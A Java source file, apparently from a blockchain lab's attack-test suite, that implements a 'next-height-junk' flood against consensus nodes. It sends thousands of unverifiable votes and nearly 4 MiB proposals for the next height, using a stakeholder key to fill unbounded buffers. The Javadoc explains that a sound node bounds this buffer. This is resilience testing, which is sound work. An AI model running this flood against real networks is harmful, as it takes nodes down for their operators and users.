package org.lpos.lab.attack;

import com.google.protobuf.ByteString;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.lpos.chain.crypto.KeyPair;
import org.lpos.proto.v1.Block;
import org.lpos.proto.v1.BlockHeader;
import org.lpos.proto.v1.PeerMessage;
import org.lpos.proto.v1.Proposal;
import org.lpos.proto.v1.Transaction;
import org.lpos.proto.v1.Vote;
import org.lpos.proto.v1.VoteType;

/**
 * Issue 14 (e): messages for the height after the one each node is deciding, which a node keeps
 * unverified until it gets there: {@value #VOTES_PER_HEIGHT} junk votes per height (distinct
 * rounds, random block hashes, signatures that do not verify), then proposals carrying blocks of
 * almost 4 MiB, at line rate, following the chain as it moves. A node buffers next-height messages
 * only from stakeholders, so this attack needs {@link AttackTarget#stakedKey()}; with a fresh key it
 * still runs and says so. A sound node bounds that buffer in bytes and per peer.
 */
public final class NextHeightJunkAttack implements Attack {
  static final int VOTES_PER_HEIGHT = 4_096;
  /** Bytes of junk transactions in each oversized proposal's block. */
  static final long PROPOSAL_BLOCK_BYTES = (4L << 20) - (64 << 10);

  @Override
  public String name() {
    return "next-height-junk";
  }

  @Override
  public String description() {
    return VOTES_PER_HEIGHT + " junk next-height votes per height, then ~4 MiB next-height proposals"
        + " (give --key-file of a stakeholder to reach the buffer)";
  }

  @Override
  public AttackReport run(AttackTarget target, Duration duration, long seed, Runnable inEffect)
      throws InterruptedException {
    long start = System.nanoTime();
    Junk junk = new Junk(seed);
    KeyPair key = target.stakedKey().orElseGet(junk::key);
    List<Transaction> filler = junk.transactionsOfBytes(PROPOSAL_BLOCK_BYTES);
    ByteString signature = junk.bytes(Junk.SIGNATURE_BYTES);
    try (AttackChannels channels = new AttackChannels(target)) {
      PeerFlood.Counts c = new PeerFlood(target, channels).run(duration, inEffect, 1, n -> key,
          AttackerPeer.Reading.READS, new PeerFlood.Frames() {
            /** Per node: the next height it was sent junk for, and how many messages of it. */
            private final Map<String, long[]> cursors = new HashMap<>();

            @Override
            public synchronized PeerMessage next(PeerFlood.Sender sender, NodeFacts node) {
              long next = node.height() + 1;
              long[] cursor = cursors.computeIfAbsent(sender.node(), n -> new long[] {-1, 0});
              if (cursor[0] != next) {
                cursor[0] = next;
                cursor[1] = 0;
              }
              int i = (int) Math.min(Integer.MAX_VALUE, cursor[1]++);
              if (i < VOTES_PER_HEIGHT) {
                return PeerMessage.newBuilder().setVote(Vote.newBuilder()
                    .setType(i % 2 == 0 ? VoteType.VOTE_TYPE_PREVOTE : VoteType.VOTE_TYPE_PRECOMMIT)
                    .setHeight(next).setRound(i / 2).setBlockHash(junk.bytes(32)).setSigner(key.publicKey())
                    .setSignature(signature)).build();
              }
              Block block = Block.newBuilder().setHeader(BlockHeader.newBuilder().setChainId(node.chainId())
                  .setHeight(next).setPrevHash(junk.bytes(32)).setMerkleRoot(junk.bytes(32))
                  .setTimestampMs(System.currentTimeMillis()).setProposer(key.publicKey()).setRound(i))
                  .addAllTransactions(filler).build();
              return PeerMessage.newBuilder().setProposal(Proposal.newBuilder().setHeight(next).setRound(i)
                  .setBlock(block).setValidRound(-1).setProposer(key.publicKey()).setSignature(signature)).build();
            }
          });
      return new AttackReport(name(), PeerFlood.since(start), c.messages(), c.bytes(), c.streams(), c.refused(),
          "staked_key=" + target.stakedKey().isPresent() + " closed_by=" + c.closedBy());
    }
  }
}
